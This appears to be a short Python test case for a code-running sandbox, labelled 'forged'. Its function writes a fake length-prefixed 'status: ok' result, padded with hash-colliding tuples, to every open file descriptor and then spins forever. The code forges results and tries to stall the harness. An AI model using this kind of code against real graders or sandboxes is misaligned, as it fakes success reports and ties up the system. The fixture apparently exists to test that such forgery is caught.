# family: forged
# tries: a set of tuples whose hashes are all the same and that differ only at their ends
# mode: module
# calls: [["f", [], 0]]
# seconds: 6
# status: unreadable
import itertools
import json
import os
import struct


def f():
    ends = itertools.islice(itertools.product(('["i","-1"]', '["i","-2"]'), repeat=13), 4990)
    keys = ",".join('["t",[' + "null," * 200 + ",".join(end) + "]]" for end in ends)
    data = json.dumps({"status": "ok", "value": '["s",[' + keys + "]]"}).encode()
    data = struct.pack("!I", len(data)) + data
    for number in range(3, 256):
        try:
            while data:
                data = data[os.write(number, data) :]
        except OSError:
            pass
    while True:
        pass
